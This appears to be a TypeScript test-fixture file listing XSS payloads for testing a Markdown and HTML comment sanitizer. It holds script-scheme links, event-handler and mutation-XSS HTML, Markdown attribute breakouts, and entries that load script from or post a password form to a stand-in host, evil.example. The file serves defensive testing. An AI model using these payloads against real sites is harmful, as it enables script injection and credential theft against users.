// Comments that try to be more than words. Classes, each with its neighbours; see docs/decisions/0007-sanitize-last.md.

const SCHEMES = [
  'javascript:alert(1)', 'JAVASCRIPT:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', 'java&#115;cript:alert(1)', 'java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)', 'javascript&colon;alert(1)',
  '&#x6A;avascript:alert(1)', '&#0000106avascript:alert(1)', '\u0001javascript:alert(1)', 'java\u200Bscript:alert(1)', 'javascript%3Aalert(1)', 'data:text/html;base64,PHNjcmlwdD4=', 'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)', 'file:///etc/passwd', 'blob:https://x.example/1', 'mailto:a@b.example?bcc=all', 'tel:+1', '//evil.example', '/\\evil.example', '\\\\evil.example', '/logout', '#top', '?q', 'http:evil.example', 'https:/evil.example',
  'https://good.example@evil.example', 'https://\\evil.example', 'feed:javascript:alert(1)', 'view-source:javascript:alert(1)', 'ircs://x.example', 'xmpp:a@b', 'intent://x#Intent;scheme=http;end',
]

/** Links whose address is not a page on the web, in each way Markdown can spell a link. */
export const BAD_LINKS: readonly string[] = SCHEMES.flatMap((url) => [`[x](${url})`, `[x](<${url}>)`, `<${url}>`, `[x][1]\n\n[1]: ${url}`, `[x](${url} "title")`, `![x](${url})`])

/** HTML in every place where somebody once got it through. */
export const HTML_ATTACKS: readonly string[] = [
  '<script>alert(1)</script>', '<ScRiPt src=//evil.example></sCrIpT>', '<img src=x onerror=alert(1)>', '<img/src=x/onerror=alert(1)>', '<svg onload=alert(1)>', '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><script>alert&#40;1&#41;</script></svg>', '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<template><img src=x onerror=alert(1)></template>', '<textarea><img title="</textarea><img src=x onerror=alert(1)>">', '<xmp><img title="</xmp><img src=x onerror=alert(1)>">',
  '<title><img title="</title><img src=x onerror=alert(1)>">', '<iframe srcdoc="<script>alert(1)</script>">', '<iframe src=javascript:alert(1)>', '<object data=javascript:alert(1)>', '<embed src=//evil.example>', '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">', '<link rel=stylesheet href=//evil.example>', '<style>@import "//evil.example"</style>', '<form action=//evil.example><input name=p type=password>', '<button formaction=javascript:alert(1)>x',
  '<a href=javascript:alert(1)>x</a>', '<a href="x" onclick=alert(1)>x</a>', '<b onmouseover=alert(1)>x</b>', '<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)>', '<body onload=alert(1)>', '<marquee onstart=alert(1)>',
  '<blockquote cite="x\n\nonfocus=alert(1) autofocus tabindex=0 y">', '<blockquote cite=\'x\n\nonfocus=alert(1) autofocus tabindex=0 y\'>', '<a title="x\n\n" onfocus=alert(1) autofocus href="#">', '<p title="\n> " onfocus=alert(1)>', '<div\n\nonfocus=alert(1) autofocus tabindex=0>',
  '<!--><img src=x onerror=alert(1)>-->', '<!-- --!><img src=x onerror=alert(1)>', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<?xml-stylesheet href="javascript:alert(1)"?>', '<!DOCTYPE x [<!ENTITY y "z">]>', '</p><script>alert(1)</script>', '</article></main><h1>x',
  '<a id=comments><form id=x><input name=attributes>', '<img name=getElementById>', '<x-custom is=y onclick=alert(1)>', '<\u0000script>alert(1)</script>', '<scr\u0000ipt>alert(1)</script>', '\u2028<script>alert(1)</script>', '＜script＞alert(1)＜/script＞',
]

/** The same through the seams of Markdown itself. */
export const MARKDOWN_ATTACKS: readonly string[] = [
  '[x](https://a.example "onfocus=alert(1) autofocus")', '[x](https://a.example "\\" onfocus=alert(1) autofocus x=\\"")', "[x](https://a.example ' onfocus=alert(1) ')", '[x](https://a.example (\n onfocus=alert(1)))', '[x](https://a.example/"onmouseover="alert(1))',
  '[x](<https://a.example/" onmouseover=alert(1) x=">)', '[x](https://a.example/`onclick=alert(1)`)', '<https://a.example/"onmouseover="alert(1)>', '<https://a.example/\'onmouseover=\'alert(1)>', '[<img src=x onerror=alert(1)>](https://a.example)',
  '![<img src=x onerror=alert(1)>](https://a.example/x.png)', '![x](https://a.example/x.png" onerror="alert(1))', '`<img src=x onerror=alert(1)>`', '```"><img src=x onerror=alert(1)>\ncode\n```', '```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```',
  '~~~\n</pre><svg onload=alert(1)>\n~~~', '    <script>alert(1)</script>', '> <script>alert(1)</script>', '- <img src=x onerror=alert(1)>', '# <img src=x onerror=alert(1)>', '# [x](javascript:alert(1))', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;img src=x onerror=alert(1)&#62;',
  '&amp;lt;script&amp;gt;', '\\<script>alert(1)\\</script>', '[x]: javascript:alert(1)\n[x]', '[a]: https://a.example "onfocus=alert(1)"\n\n[a]', '**<script>**alert(1)**</script>**', '*<a href="*javascript:alert(1)*">*', '[a](https://a.example)<b>', '| a | <script> |\n|---|---|',
  '[^1]\n\n[^1]: <script>', '<div>\n\n[x](javascript:alert(1))\n\n</div>', '{{7*7}} ${7*7} <%= 7 %>', '1000000000. x', '999999999. x', '</script><script>alert(1)</script>', '<!--<script>', ']]>', '<https://a.example/\u202Egpj.exe>', 'x<br/onload=alert(1)>y',
]
